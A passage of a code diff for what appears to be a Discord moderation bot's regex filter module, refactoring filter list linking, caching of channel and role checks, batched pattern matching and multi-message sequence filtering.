-            for list_name, list_deps in lists_deps.items():
+            for list_name, list_links in lists_links.items():
                 link_name = filter_data.get(list_name + '_link')
 
-                if link_name in [None, 'SERVER']:
-                    list_deps[name] = []
-                else:
-                    list_deps[name] = [link_name]
+                if link_name not in [None, 'SERVER']:
+                    list_links[name] = link_name
 
-        for list_name, list_deps in lists_deps.items():
-            for filter_name in topological_sort(list_deps.items()):
-                if list_deps[filter_name]:  # if dep list is nonempty
-                    self.filters[filter_name].set_list(list_name, link_dest=list_deps[filter_name][0])
+        for list_name, list_links in lists_links.items():
+            self.resolve_links(list_name, list_links)
 
         self.update_order()
 
-    def update_order(self):
-        filters = (f for f in self.filters.values() if f.enabled)
-        self.order[:] = sorted(filters, key=lambda f: f.filter_priority, reverse=True)
+    def resolve_links(self, list_name: str, pending: dict):
+        """
+        Sets the deferred links in pending (filter name -> link target name), each target before its dependents
 
-    def make_link(self, link_owner, target_owner, list_name):
-        dep_graph = {}
+        Follows each chain of links to a filter with its own list once, so it takes linear time however deep the
+        chains are. Raises ValueError on a cycle or a link to a filter that doesn't exist.
+        """
+        for name in list(pending):
+            chain = []
+            seen = set()
 
-        # build the current state
-        for _filter in self.filters.values():
-            link_dest = _filter.links.get(list_name)
-            dep_graph[_filter.name] = [] if link_dest in [self, None] else [link_dest.name]
+            while name in pending:
+                if name in seen:
+                    raise ValueError("cyclic dependency detected: %r" % chain)
 
-        # make the proposed change
-        dep_graph[link_owner.name] = [target_owner.name]
+                chain.append(name)
+                seen.add(name)
+                name = pending[name]
 
-        # test for cycles/broken links
-        sorted_names = list(topological_sort(dep_graph.items()))
+            if name not in self.filters:
+                raise ValueError("missing dependency detected: %r" % chain)
 
-        # apply the changes
-        for name in sorted_names:
-            if dep_graph[name]:
-                self.filters[name].set_list(list_name, link_dest=dep_graph[name][0])
-            else:
-                self.filters[name].links.pop(list_name, None)
+            for name in reversed(chain):
+                self.filters[name].set_list(list_name, link_dest=pending.pop(name))
 
-        assert getattr(link_owner, list_name) is getattr(target_owner, list_name)
-        return getattr(target_owner, list_name)
+    def update_order(self):
+        filters = (f for f in self.filters.values() if f.enabled)
+        self.order[:] = sorted(filters, key=lambda f: f.filter_priority, reverse=True)
+        self.invalidate()
 
-    def break_link(self, link_owner, list_name, *, copy=False, **newlist_data):
-        current_list = getattr(link_owner, list_name)
-        if current_list.parent is link_owner:
-            raise TypeError("Not linked.")
-        elif copy and newlist_data:
-            raise TypeError("If copy is set, no extra data should be passed.")
+    def invalidate(self):
+        """
+        Discards the compiled filter set; call this after changing anything that affects how filters are grouped
+        """
+        self.generation = next(CONFIG_GENERATIONS)
+        self._filter_set = None
 
-        dep_graph = {}
+    def invalidate_meta(self):
+        """
+        Discards the precomputed list verdicts; call this after editing or relinking any channel or role list
+        """
+        self._channel_verdicts.clear()
+        self._list_masks.clear()
 
-        # build the current state
-        for _filter in self.filters.values():
-            link_dest = _filter.links.get(list_name)
-            dep_graph[_filter.name] = [] if link_dest in [self, None] else [link_dest.name]
+    def channel_verdict(self, _list: 'FilterList', channel: discord.Channel) -> Optional[bool]:
+        """
+        Cached _list.check(channel)
+        """
+        key = (_list, channel.id)
 
-        # make the proposed change
-        dep_graph[link_owner.name] = []
+        try:
+            return self._channel_verdicts[key]
+        except KeyError:
+            self._channel_verdicts[key] = ret = _list.check(channel)
+            return ret
 
-        # test for cycles/broken links
-        sorted_names = list(topological_sort(dep_graph.items()))
+    def role_mask(self, role_ids: Iterable[str]) -> int:
+        """
+        Returns a bitmask of the role IDs, each one getting a bit the first time it's seen
+        """
+        bits = self._role_bits
+        mask = 0
 
-        # apply the changes
-        for name in sorted_names:
-            if dep_graph[name]:
-                self.filters[name].set_list(list_name, link_dest=dep_graph[name][0])
-            else:
-                self.filters[name].links.pop(list_name, None)
+        for role_id in role_ids:
+            bit = bits.get(role_id)
 
-            if name == link_owner.name:
-                if copy:
-                    newlist_obj = getattr(link_owner, list_name).copy(link_owner)
-                    link_owner.set_list(list_name, new_list_obj=newlist_obj)
-                else:
-                    self.filters[name].set_list(list_name, new_list_data=newlist_data)
+            if bit is None:
+                bits[role_id] = bit = 1 << len(bits)
+
+            mask |= bit
+
+        return mask
+
+    def role_verdict(self, _list: 'FilterList', roles: Sequence[discord.Role], mask: int) -> Optional[bool]:
+        """
+        _list.check_iter(roles), using a bitmask of the roles from role_mask()
+        """
+        masks = self._list_masks.get(_list)
+
+        if masks is None:
+            self._list_masks[_list] = masks = _list.role_masks(self.role_mask)
+
+        base, base_hit, items, excluded, included = masks
+
+        if not _list.enabled:
+            if base is None:
+                return None
+
+            return base.mode if mask & base_hit else not base.mode
+        elif base is None:
+            return _list.mode if mask & items else not _list.mode
+
+        excluded &= mask
+        included &= mask
+
+        # Overlaid lists go by whichever role comes first, so leave that to the original
+        if excluded and included:
+            return _list.check_iter(roles)
+        elif excluded:
+            return False
+        elif included:
+            return True
+
+        return not _list.mode
+
+    @property
+    def filter_set(self) -> 'FilterSet':
+        if self._filter_set is None or self._filter_set.generation != self.generation:
+            self._filter_set = FilterSet(self)
+
+        return self._filter_set
+
+    def make_link(self, link_owner, target_owner, list_name):
+        # test for cycles: the target can't already depend on the owner
+        dest = target_owner
+
+        while isinstance(dest, Filter):
+            if dest is link_owner:
+                raise ValueError("cyclic dependency detected: %s -> %s" % (link_owner.name, target_owner.name))
+
+            dest = dest.links.get(list_name)
+
+        link_owner.set_list(list_name, link_dest=target_owner.name)
+        self.relink_dependents(link_owner, list_name)
+
+        assert getattr(link_owner, list_name) is getattr(target_owner, list_name)
+        return getattr(target_owner, list_name)
 
+    def break_link(self, link_owner, list_name, *, copy=False, **newlist_data):
+        current_list = getattr(link_owner, list_name)
+        if current_list.parent is link_owner:
+            raise TypeError("Not linked.")
+        elif copy and newlist_data:
+            raise TypeError("If copy is set, no extra data should be passed.")
+
+        if copy:
+            link_owner.set_list(list_name, new_list_obj=current_list.copy(link_owner))
+        else:
+            link_owner.set_list(list_name, new_list_data=newlist_data)
+
+        self.relink_dependents(link_owner, list_name)
         return getattr(link_owner, list_name)
 
+    def index_link(self, _filter: 'Filter', list_name: str, old_dest: Optional[FilterBase],
+                   new_dest: Optional[FilterBase]):
+        """
+        Moves _filter from its old link target's dependents to its new one's
+        """
+        index = self.dependents[list_name]
+
+        if isinstance(old_dest, Filter):
+            index[old_dest].discard(_filter)
+
+            if not index[old_dest]:
+                del index[old_dest]
+
+        if isinstance(new_dest, Filter):
+            index.setdefault(new_dest, set()).add(_filter)
+
+    def relink_dependents(self, _filter: 'Filter', list_name: str):
+        """
+        Points every filter linked to _filter, directly or through others, at _filter's current list
+        """
+        index = self.dependents[list_name]
+        pending = deque(index.get(_filter, ()))
+
+        # Links form a forest, so breadth-first order reaches each filter after the one it links to
+        while pending:
+            dependent = pending.popleft()
+            setattr(dependent, list_name, getattr(dependent.links[list_name], list_name))
+            pending.extend(index.get(dependent, ()))
+
+        self.invalidate_meta()
+
     def get_filter(self, _filter: Union[str, 'Filter'], check=False):
         if isinstance(_filter, Filter):
             if _filter.parent is not self:
@@ -634,6 +1444,7 @@ class ServerConfig(FilterBase):
         if self.get_filter(new_name):
             raise ValueError("filter %s already exists" % new_name)
 
+        # Links and the dependents index hold filters rather than names, so nothing else has to change
         self.filters[new_name] = self.filters.pop(_filter.name)
         _filter.name = new_name
         return _filter
@@ -655,18 +1466,10 @@ class ServerConfig(FilterBase):
     def delete_filter(self, _filter: Union[str, 'Filter']):
         _filter = self.get_filter(_filter, check=True)
 
-        channels_linked = []
-        roles_linked = []
+        channels_linked = sorted(f.name for f in self.dependents['channels_list'].get(_filter, ()))
+        roles_linked = sorted(f.name for f in self.dependents['roles_list'].get(_filter, ()))
         linked_err = []
 
-        for filter_name, f in self.filters.items():
-            if f is _filter:
-                continue
-            if f.links.get('channels_list') is _filter:
-                channels_linked.append(filter_name)
-            if f.links.get('roles_list') is _filter:
-                roles_linked.append(filter_name)
-
         if channels_linked:
             linked_err.append('channels: ' + ', '.join(channels_linked))
         if roles_linked:
@@ -676,6 +1479,9 @@ class ServerConfig(FilterBase):
 
         self.filters.pop(_filter.name)
 
+        for list_name in self.dependents:
+            self.index_link(_filter, list_name, _filter.links.get(list_name), None)
+
         if _filter.enabled:
             self.update_order()
 
@@ -685,51 +1491,184 @@ class ServerConfig(FilterBase):
         """
         Return true if message should be deleted
         """
-        has_white = False
+        return (await self.check_messages([message], [list_cache]))[0]
+
+    async def check_messages(self, messages: Sequence[Message],
+                             list_caches: Optional[Sequence[Optional[dict]]] = None, *, meta: bool = True) \
+            -> List[bool]:
+        """
+        Like check_message, but evaluates all of the messages in a single executor call
+
+        If meta is False, channel, role and privilege settings are ignored (for replaying archived messages).
+        """
+        return (await self.check_batch(messages, list_caches, meta=meta))[0]
+
+    async def check_batch(self, messages: Sequence[Message], list_caches: Optional[Sequence[Optional[dict]]] = None,
+                          sequences: Optional[Sequence[Optional[Sequence[Message]]]] = None, *, meta: bool = True) \
+            -> Tuple[List[bool], List[Optional[Sequence[Message]]]]:
+        """
+        Checks messages, and the multi-message sequences that end with them, in a single executor call
+
+        sequences[i] is None or the history ending with messages[i], to check as check_sequence would. Returns
+        the verdict for each message, and what to delete from each sequence: None if there was none to check or
+        its message is deleted, since the history it was checked with no longer exists.
+        """
+        filter_set = self.filter_set
+        plans = []
+        seq_plans = []
+
+        if list_caches is None:
+            list_caches = [None] * len(messages)
+
+        if sequences is None or not filter_set.sequence:
+            sequences = [None] * len(messages)
+
+        for message, list_cache, sequence in zip(messages, list_caches, sequences):
+            plans.append(self.prepare_message(filter_set, message, list_cache, meta=meta))
+            seq_plans.append(self.prepare_sequence(filter_set, sequence, list_cache, meta=meta) if sequence else None)
+
+        job_lists = [checks for checked, checks in plans if checks]
+        job_lists.extend(plan[1] for plan in seq_plans if plan and plan[1])
+
+        if job_lists:
+            results = iter(await self.cog.run_check_batches(self.server_id, filter_set, job_lists))
+        else:
+            results = iter(())
+
+        verdicts = []
+        seq_results = []
+
+        for checked, checks in plans:
+            if checks:
+                matches = next(results)
+                self.record_stats(checked, matches)
+                verdicts.append(self.resolve_message(checked, matches))
+            else:
+                verdicts.append(False)
+
+        for verdict, sequence, plan in zip(verdicts, sequences, seq_plans):
+            matches = next(results) if plan and plan[1] else None
+
+            if plan is None or verdict:
+                seq_results.append(None)
+            elif matches is None:
+                seq_results.append(())
+            else:
+                seq_results.append(self.resolve_sequence(sequence, *plan, matches))
+
+        return verdicts, seq_results
+
+    def prepare_message(self, filter_set: 'FilterSet', message: Message, list_cache: Optional[dict] = None, *,
+                        meta: bool = True) \
+            -> Tuple[List[Tuple['FilterGroup', List[int], str]], List[Tuple[int, str, bool]]]:
+        """
+        Returns the groups that apply to a message and the executor jobs to check them
+        """
         content_cache = {}
+        literal_cache = {}
         checks = []
         checked = []
 
         if list_cache is None:
             list_cache = {}
 
-        for f in self.order:
-            # Don't run if the filter is multi-message
-            if f.multi_msg or not (f.check_meta(message, list_cache) and f.predicate):
+        # Multi-message filters are in filter_set.sequence, for check_sequence
+        for group in filter_set.groups:
+            members = [i for i, f in enumerate(group.filters) if not meta or f.check_meta(message, list_cache)]
+
+            if not members:
                 continue
 
-            asciify = f.asciify or (f.asciify is None and self.asciify)
-            ck = (asciify, f.attachment_header)
+            ck = (group.asciify, group.attachment_header)
 
             if ck in content_cache:
                 content = content_cache[ck]
             else:
-                content = preprocess_msg(f, message)
+                content = preprocess_msg(group, message)
 
-                if asciify:
-                    content = asciify_string(content)
+                if group.asciify:
+                    content = asciify_cached(content, message.id)
 
                 content_cache[ck] = content
 
-            stop_on_match = f.override or not f.mode  # short-circuit for override or blacklist mode
-            checked.append(f)
-            checks.append((f.predicate, content, stop_on_match))
+            if not group.mode:
+                members = self.prefilter(group, members, filter_set, content, literal_cache, ck)
 
-        if not checks:
-            return False
+                if not members:
+                    continue
+
+            stop_on_match = group.override or not group.mode  # short-circuit for override or blacklist mode
+            checked.append((group, members, content))
+            checks.append((filter_set.spec_id(group.spec_for(members)), content, stop_on_match))
+
+        return checked, checks
+
+    @staticmethod
+    def prefilter(group: 'FilterGroup', members: List[int], filter_set: 'FilterSet', content: str,
+                  literal_cache: dict, ck: Hashable) -> List[int]:
+        """
+        Drops blacklist members whose required literals don't appear in the content, and counts hits and misses
+        """
+        ret = []
+
+        for i in members:
+            f = group.filters[i]
+
+            if not f.literals:
+                ret.append(i)
+                continue
+            elif ck not in literal_cache:
+                literal_cache[ck] = filter_set.find_literals(content)
+
+            if f.literals.isdisjoint(literal_cache[ck]):
+                f.prefilter_misses += 1
+            else:
+                f.prefilter_hits += 1
+                ret.append(i)
+
+        return ret
+
+    @staticmethod
+    def record_stats(checked: Sequence[Tuple['FilterGroup', List[int], str]], matches: Sequence[dict]):
+        """
+        Adds the timing of a message's jobs to its filters' stats
+
+        A combined pattern's time is split evenly between the filters it checked; the match goes to whichever
+        filter's branch matched.
+        """
+        for (group, members, content), match_dict in zip(checked, matches):
+            elapsed = result_time(match_dict) / len(members)
+            matched = 'match' in match_dict
+
+            if len(members) == 1:
+                group.filters[members[0]].stats.record(elapsed, matched)
+                continue
+
+            groupdict = match_dict.get('groupdict') or {}
 
-        matches = await self.cog.bot.loop.run_in_executor(self.cog.executor, check_matches, checks)
+            for i in members:
+                group.filters[i].stats.record(elapsed, matched and groupdict.get('_f%i' % i) is not None)
+
+    def resolve_message(self, checked: Sequence[Tuple['FilterGroup', List[int], str]], matches: Sequence[dict]) \
+            -> bool:
+        """
+        Turns the results of a message's jobs into whether it should be deleted
+        """
         has_white = False
         match_white = False
 
-        for f, match_dict in zip(checked, matches):
+        # All filters in a group share mode and override, so a group decides the same way any member would
+        for (group, members, content), match_dict in zip(checked, matches):
             matched = match_dict.get('match', False)
 
-            if f.override and matched:  # override black or white
-                return not f.mode
-            elif has_white and not f.mode and not match_white:
+            if timed_out(match_dict):  # counts as no match; find out which member(s) were responsible
+                self.cog.report_timeout(self, [(group.filters[i], 'match', content) for i in members])
+
+            if group.override and matched:  # override black or white
+                return not group.mode
+            elif has_white and not group.mode and not match_white:
                 return True  # Message has whitelist but nothing matched, return immediately
-            elif f.mode and not f.override:  # white for normal only, ORed between all matches
+            elif group.mode and not group.override:  # white for normal only, ORed between all matches
                 has_white = True
                 match_white |= bool(matched)
             elif matched:  # black regular
@@ -740,26 +1679,31 @@ class ServerConfig(FilterBase):
         else:
             return False
 
-    async def debug_message(self, message: Message) -> Tuple[List[Tuple[str, str, Optional[str]]],
-                                                             Optional[Tuple[str, bool]]]:
+    async def debug_message(self, message: Message) \
+            -> Tuple[List[Tuple[str, str, Optional[str], Optional[str]]], Optional[Tuple[str, bool]], int]:
         """
-        Return a list of each filter's results and the ultimate action that would be taken, if any
+        Return each filter's results, the ultimate action that would be taken (if any) and the generation checked
+
+        Every filter that passes its meta checks is run on its own, so that it can be timed, but all of them go to
+        the executor together in one call. Each result is (name, outcome, matched text, detail), where detail is
+        the check's time or why it didn't run.
         """
-        has_white = False
-        match_white = False
+        filter_set = self.filter_set
         content_cache = {}
+        literal_cache = {}
         list_cache = {}
-        action = None
-        results = []
+        pending = []
+        jobs = []
+        results = {}
 
         for f in self.order:
             meta_result = f.check_meta(message, list_cache, debug=True)
 
             if not meta_result[0]:
-                results.append((f.name, 'meta skip', meta_result[1]))
+                results[f.name] = (f.name, 'meta skip', None, meta_result[1])
                 continue
-            elif not f.predicate:
-                results.append((f.name, 'no predicate', None))
+            elif f.pattern_error:
+                results[f.name] = (f.name, 'no predicate', None, f.pattern_error)
                 continue
 
             asciify = f.asciify or (f.asciify is None and self.asciify)
@@ -771,99 +1715,163 @@ class ServerConfig(FilterBase):
                 content = preprocess_msg(f, message)
 
                 if asciify:
-                    content = asciify_string(content)
+                    content = asciify_cached(content, message.id)
 
                 content_cache[ck] = content
 
-            match = await self.cog.bot.loop.run_in_executor(self.cog.executor, f.predicate, content)
+            # The same literal check prepare_message makes, without counting it in the filter's prefilter stats
+            if not f.mode and not f.multi_msg and f.literals:
+                if ck not in literal_cache:
+                    literal_cache[ck] = filter_set.find_literals(content)
+
+                if f.literals.isdisjoint(literal_cache[ck]):
+                    pending.append((f, content, {}))
+                    results[f.name] = (f.name, None, None, 'prefilter skip')
+                    continue
+
+            pending.append((f, content, None))
+            jobs.append((filter_set.spec_id(f.spec()), content, False))
+
+        matches = iter(await self.cog.run_checks(self.server_id, filter_set, jobs) if jobs else ())
+        has_white = False
+        match_white = False
+        action = None
+
+        for f, content, match_dict in pending:
+            if match_dict is None:
+                match_dict = next(matches, {})
 
-            if f.override and match:  # override black or white
+            span = match_dict.get('span')
+            match = span and content[span[0]:span[1]]
+
+            if f.override and match is not None:  # override black or white
                 if action is None:
                     action = (f.name, not f.mode)
 
-                result = 'override match', match and content[match[0]:match[1]]
+                outcome = 'override match'
             elif has_white and not f.mode and not match_white:
                 if action is None:
                     action = (f.name, True)
 
-                result = 'white->black transition but no white match', match and content[match[0]:match[1]]
+                outcome = 'white->black transition but no white match'
             elif f.mode and not f.override:
                 has_white = True
-                match_white |= bool(match)
-                result = 'white test (%s)' % ('hit' if bool(match) else 'miss'), match and content[match[0]:match[1]]
-            elif match:
+                match_white |= match is not None
+                outcome = 'white test (%s)' % ('hit' if match is not None else 'miss')
+            elif match is not None:
                 if action is None:
                     action = (f.name, True)
 
-                result = 'black match', match and content[match[0]:match[1]]
+                outcome = 'black match'
+            else:
+                outcome = 'default case'
+
+            if f.name in results:  # skipped by the prefilter
+                detail = results[f.name][3]
+            elif timed_out(match_dict):
+                detail = 'timed out'
+            elif 'exception' in match_dict:
+                detail = 'error: %s' % match_dict['exception']
             else:
-                result = 'default case', None
+                detail = '%.3f ms' % (result_time(match_dict) * 1000)
 
-            results.append((f.name, *result))
+            results[f.name] = (f.name, outcome, match, detail)
 
         if has_white:
             action = ('default w/ whitelist', not match_white)
 
-        return results, action
+        return [results[f.name] for f in self.order], action, filter_set.generation
 
-    async def check_sequence(self, messages: Sequence[Message], list_cache: Optional[dict] = None) -> List[Message]:
+    async def check_sequence(self, messages: Sequence[Message], list_cache: Optional[dict] = None, *,
+                             meta: bool = True) -> List[Message]:
         """
         Return a list of messages from the sequence that should be deleted
         """
-        has_white = False
+        if not messages:
+            return []
+
+        filter_set = self.filter_set
+        checked, checks = self.prepare_sequence(filter_set, messages, list_cache, meta=meta)
+
+        if not checks:
+            return ()
+
+        matches = await self.cog.run_checks(self.server_id, filter_set, checks)
+        return self.resolve_sequence(messages, checked, checks, matches)
+
+    def prepare_sequence(self, filter_set: 'FilterSet', messages: Sequence[Message],
+                         list_cache: Optional[dict] = None, *, meta: bool = True) \
+            -> Tuple[List[Tuple['SequenceFilter', JoinedBuffer, int, List[int]]], List[tuple]]:
+        """
+        Brings the joined buffers up to date with a message sequence, and returns the sequence filters that apply
+        to it and the executor jobs to check them
+        """
         joined_cache = {}
-        content_cache = {}
         checks = []
         checked = []
 
-        if not messages:
-            return []
-        elif list_cache is None:
+        if list_cache is None:
             list_cache = {}
 
-        for f in self.order:
-            if not (f.multi_msg and f.check_meta(messages[-1], list_cache) and f.predicate):
+        channel_id, author_id = messages[-1].channel.id, messages[-1].author.id
+
+        for sf in filter_set.sequence:
+            if meta and not sf.filter.check_meta(messages[-1], list_cache):
                 continue
 
-            asciify = f.asciify or (f.asciify is None and self.asciify)
-            jk = (asciify, f.multi_msg_join, f.attachment_header)
+            jk = (channel_id, author_id, sf.asciify, sf.join, sf.attachment_header)
 
             if jk in joined_cache:
-                content, indices = joined_cache[jk]
+                buffer = joined_cache[jk]
             else:
-                strings = []
-
-                for message in messages:
-                    ck = (asciify, f.attachment_header, message.id)
+                buffer = self._buffers.get(jk)
 
-                    if ck in content_cache:
-                        content = content_cache[ck]
-                    else:
-                        content = preprocess_msg(f, message)
+                if buffer is None:
+                    self._buffers[jk] = buffer = JoinedBuffer(sf.join)
+                else:
+                    self._buffers.move_to_end(jk)
 
-                        if asciify:
-                            content = asciify_string(content)
+                preprocess = partial(preprocess_joined, sf, sf.asciify)
+                buffer.update(messages, preprocess, lambda spec: rescan_bounds(spec[0], spec[1]))
+                joined_cache[jk] = buffer
 
-                        content_cache[ck] = content
+            # Don't stop immediately on white
+            stop_on_match = sf.override or not sf.mode
+            job = (filter_set.spec_id(sf.spec), buffer.content, stop_on_match)
 
-                    strings.append(content)
+            if sf.bounds:
+                pos = buffer.rescan_from(sf.spec, sf.bounds)
+                job += (pos,) if pos else ()
 
-                joined_cache[jk] = (content, indices) = concat_with_keys(strings, f.multi_msg_join)
+            checks.append(job)
+            # Other checks of this channel and author can update the buffer while this one awaits its results, so
+            # keep the indices that go with this content and only mark it clean if the buffer hasn't moved on
+            checked.append((sf, buffer, buffer.version, list(buffer.indices)))
 
-            # Don't stop immediately on white
-            stop_on_match = f.override or not f.mode
-            predicate = partial(check_match_iter, f.compiled.finditer) if f.mode else f.predicate
-            checks.append((predicate, content, stop_on_match))
-            checked.append((f, indices))
+        return checked, checks
 
-        matches = await self.cog.bot.loop.run_in_executor(self.cog.executor, check_matches, checks)
+    def resolve_sequence(self, messages: Sequence[Message],
+                         checked: Sequence[Tuple['SequenceFilter', JoinedBuffer, int, List[int]]],
+                         checks: Sequence[tuple], results: Sequence[Union[dict, List[dict]]]) -> List[Message]:
+        """
+        Returns the messages to delete from a sequence, given the results of the jobs from prepare_sequence
+        """
         has_white = False
         matched_message_set = set()
         message_set = set(messages)
         to_delete = message_set.copy()
         new_wlc = []
 
-        for (f, indices), match_obj in zip(checked, matches):
+        for (sf, buffer, version, indices), (_, content, *_), match_obj in zip(checked, checks, results):
+            f = sf.filter
+            matched = any('match' in m for m in match_obj) if sf.kind == 'iter' else 'match' in match_obj
+            f.stats.record(result_time(match_obj), matched)
+
+            if timed_out(match_obj):
+                self.cog.report_timeout(self, [(f, sf.kind, content)])
+            elif sf.bounds and buffer.version == version and not ({'match', 'exception'} & match_obj.keys()):
+                buffer.clean[sf.spec] = len(content)
+
             if type(match_obj) is list:
                 matches = match_obj
             else:
@@ -875,21 +1883,21 @@ class ServerConfig(FilterBase):
             for match in matches:
                 if 'match' not in match:
                     continue
-                elif f.multi_msg_group > 0 and not f.mode:  # groups disabled for whitelist
-                    if len(match.get('group_spans', [])) < f.multi_msg_group:
+                elif sf.group > 0 and not sf.mode:  # groups disabled for whitelist
+                    if len(match.get('group_spans', [])) < sf.group:
                         continue
 
-                    match = match['group_spans'][f.multi_msg_group - 1]
+                    match = match['group_spans'][sf.group - 1]
                 else:
                     match = match['span']
 
                 match_messages = sequence_from_indices(messages, indices, match)
                 matched_message_set.update(match_messages)
 
-                if f.mode:
+                if sf.mode:
                     new_wlc.append((match_messages[0].id, match_messages[-1].id))
 
-            if matched_message_set and f.mode:
+            if matched_message_set and sf.mode:
                 wlc_key = (messages[-1].channel.id, messages[-1].author.id)
                 to_delete -= matched_message_set
 
@@ -901,13 +1909,13 @@ class ServerConfig(FilterBase):
 
                 f.mm_white_lastmatch_cache[wlc_key] = new_wlc.copy()
 
-            if f.override and matched_message_set and not f.mode:  # override black
+            if sf.override and matched_message_set and not sf.mode:  # override black
                 return matched_message_set
-            elif f.override and f.mode and to_delete:  # override white
+            elif sf.override and sf.mode and to_delete:  # override white
                 return to_delete
-            elif has_white and not f.mode and to_delete:
+            elif has_white and not sf.mode and to_delete:
                 return to_delete  # Message has whitelist but we're on a blacklist, return immediately
-            elif f.mode and not f.override:  # white for normal only
+            elif sf.mode and not sf.override:  # white for normal only
                 has_white = True
             elif matched_message_set:  # regular black
                 return matched_message_set
@@ -920,6 +1928,7 @@ class ServerConfig(FilterBase):
     def to_json(self):
         return {
             'asciify'      : self.asciify,
+            'batch_window' : self.batch_window,
             'priv_exempt'  : self.priv_exempt,
             'channels_list': self.channels_list.to_json(),
             'roles_list'   : self.roles_list.to_json(),
@@ -930,213 +1939,848 @@ class ServerConfig(FilterBase):
 class Filter(FilterBase):
     __slots__ = ['parent', 'name', 'pattern', 'flags', 'mode', 'enabled', 'override', 'asciify', 'position',
                  'channels_list', 'roles_list', 'priv_exempt', 'multi_msg', 'links', 'attachment_header',
-                 'multi_msg_group', 'multi_msg_join', '_predicate', '_compiled', 'mm_white_lastmatch_cache']
+                 'multi_msg_group', 'multi_msg_join', 'mm_white_lastmatch_cache', 'combinable', 'disabled_reason',
+                 'literals', 'prefilter_hits', 'prefilter_misses', 'stats', 'engine', 'engine_fallback',
+                 'pattern_error', 'bounds']
 
     def __init__(self, parent: ServerConfig, name: str, *, defer_link=False, **data):
         self.parent = parent
         self.name = name
 
-        self.pattern = data.get('pattern', '')
-        self.flags = data.get('flags', DEFAULT_FLAGS)
-        self.mode = data.get('mode', False)
-        self.enabled = data.get('enabled', False)
-        self.override = data.get('override', False)
-        self.priv_exempt = data.get('priv_exempt', None)
-        self.multi_msg = data.get('multi_msg', False)
-        self.multi_msg_join = data.get('multi_msg_join', CONCAT_JOIN)
-        self.multi_msg_group = data.get('multi_msg_group', 0)
-        self.asciify = data.get('asciify', None)
-        self.attachment_header = data.get('attachment_header', False)
+        self.pattern = data.get('pattern', '')
+        self.flags = data.get('flags', DEFAULT_FLAGS)
+        self.mode = data.get('mode', False)
+        self.enabled = data.get('enabled', False)
+        self.override = data.get('override', False)
+        self.priv_exempt = data.get('priv_exempt', None)
+        self.multi_msg = data.get('multi_msg', False)
+        self.multi_msg_join = data.get('multi_msg_join', CONCAT_JOIN)
+        self.multi_msg_group = data.get('multi_msg_group', 0)
+        self.asciify = data.get('asciify', None)
+        self.attachment_header = data.get('attachment_header', False)
+        self.disabled_reason = data.get('disabled_reason', None)
+        self.engine = data.get('engine', 're')
+
+        self.position = POSITION(data.get('position', POSITION.ANYWHERE))
+        self.prefilter_hits = self.prefilter_misses = 0
+        self.stats = FilterStats()
+        self.rebuild_predicate()
+        self.mm_white_lastmatch_cache = {}
+
+        self.links = {}
+
+        for k in ['roles_list', 'channels_list']:
+            if isinstance(data.get(k), FilterList):
+                self.set_list(k, new_list_obj=data[k])
+            else:
+                self.set_list(k, link_dest=data.get(k + '_link'), defer=defer_link, new_list_data=data.get(k, {}))
+
+    def set_list(self, list_name, *, link_dest=None, defer=False, new_list_data=None, new_list_obj: FilterList = None):
+        list_val = None
+        server_list = getattr(self.parent, list_name)
+        old_dest = self.links.get(list_name)
+
+        if not link_dest:
+            if new_list_data is None and not new_list_obj:
+                raise TypeError("list_data or list_obj required without link_dest")
+            elif new_list_obj and new_list_data is not None:
+                raise TypeError("only list_data or list_obj can be passed, not both")
+            elif new_list_obj:
+                list_val = new_list_obj
+            else:
+                item_type = type_from_name(list_name)
+                list_val = FilterList(self, list_name, item_type, base_list=server_list, **new_list_data)
+
+            self.links.pop(list_name, None)
+        elif link_dest == 'SERVER':
+            list_val = server_list
+            self.links[list_name] = self.parent
+        elif not defer:
+            linked_filter = self.parent.filters[link_dest]
+            self.links[list_name] = linked_filter
+            list_val = getattr(linked_filter, list_name)
+
+        if self.links.get(list_name) is not old_dest:
+            self.parent.index_link(self, list_name, old_dest, self.links.get(list_name))
+
+        setattr(self, list_name, list_val)
+        self.parent.invalidate_meta()
+
+    def rebuild_predicate(self):
+        """
+        Call after changing the pattern, flags, position or engine
+
+        Only the pattern's analysis is needed to build a FilterSet; workers compile it from spec().
+        """
+        self.parent.invalidate()
+
+        info = self.parent.cog.pattern_cache.get(self.pattern, self.flags)
+        self.pattern_error = info['error']
+        self.combinable = info['combinable']
+        self.literals = info['literals'] and frozenset((info['fold'], literal) for literal in info['literals'])
+        self.bounds = info['bounds'] and tuple(info['bounds'])
+
+        # Patterns are always validated and analyzed with re; only the matching is done by the engine
+        self.engine_fallback = None
+
+        if self.engine == 're2' and not self.pattern_error:
+            try:
+                re2_compile(self.pattern, self.flags)
+            except ValueError as e:
+                self.engine_fallback = str(e)
+
+        self.prefilter_hits = self.prefilter_misses = 0
+        self.stats = FilterStats()
+
+    def spec(self, kind: str = 'match') -> PatternSpec:
+        return self.pattern, self.flags, self.position.value, kind, self.match_engine
+
+    @property
+    def match_engine(self) -> str:
+        """
+        The engine actually used, which is re if the chosen one can't handle the pattern
+        """
+        return 're' if self.engine_fallback else self.engine
+
+    def check_meta(self, message: Message, cache=None, debug=False):
+        """
+        Return True if message is eligible for regex check
+        """
+        if not self.enabled:
+            if debug:
+                return False, 'disabled'
+            return False
+
+        if cache is None:
+            cache = {}
+
+        if 'mos' in cache:
+            mos = cache['mos']
+        else:
+            cache['mos'] = mos = self.parent.cog.is_mod_or_superior(message)
+
+        if mos:
+            if self.priv_exempt:
+                if debug:
+                    return False, 'immediate priv_exempt'
+                return False
+            elif self.priv_exempt is None and self.parent.priv_exempt:
+                if debug:
+                    return False, 'parent priv_exempt'
+                return False
+
+        clr = self.parent.channel_verdict(self.channels_list, message.channel)
+
+        if clr is False:
+            if debug:
+                return False, 'not in channel list'
+            return False
+
+        if self.roles_list in cache:
+            rlr = cache[self.roles_list]
+        else:
+            if 'role_mask' not in cache:
+                cache['role_mask'] = self.parent.role_mask(role.id for role in message.author.roles)
+
+            rlr = self.parent.role_verdict(self.roles_list, message.author.roles, cache['role_mask'])
+            cache[self.roles_list] = rlr
+
+        if rlr is False:
+            if debug:
+                return False, 'not in role list'
+            return False
+
+        if debug:
+            return True, 'meta matched'
+        return True
+
+    def to_json(self):
+        data = {
+            'asciify'           : self.asciify,
+            'attachment_header' : self.attachment_header,
+            'disabled_reason'   : self.disabled_reason,
+            'enabled'           : self.enabled,
+            'engine'            : self.engine,
+            'flags'             : self.flags,
+            'mode'              : self.mode,
+            'multi_msg'         : self.multi_msg,
+            'multi_msg_join'    : self.multi_msg_join,
+            'multi_msg_group'   : self.multi_msg_group,
+            'override'          : self.override,
+            'pattern'           : self.pattern,
